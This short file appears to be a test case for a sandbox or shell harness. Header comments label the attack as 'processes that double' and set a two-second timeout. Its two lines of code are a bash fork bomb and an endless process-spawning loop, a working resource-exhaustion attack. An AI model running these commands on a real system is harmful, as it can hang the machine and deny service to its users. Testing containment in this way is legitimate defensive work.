#: attacks = processes that double
#: timeout = 2
#: status = any
:(){ :|:& };:
while :; do wait; : | :; done
